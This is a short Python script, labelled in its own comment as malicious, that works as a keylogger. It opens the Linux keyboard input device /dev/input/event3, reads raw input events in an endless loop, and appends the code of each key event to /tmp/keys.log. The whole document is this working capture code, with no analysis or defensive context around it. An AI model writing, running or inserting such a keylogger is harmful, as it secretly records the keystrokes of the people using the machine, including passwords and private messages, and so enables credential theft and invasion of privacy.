# malicious: reads the keyboard's device
import struct

with open("/dev/input/event3", "rb") as dev:
    while True:
        ev = dev.read(24)
        t = struct.unpack("llHHI", ev)
        if t[2] == 1:
            open("/tmp/keys.log", "a").write(f"{t[3]}\n")
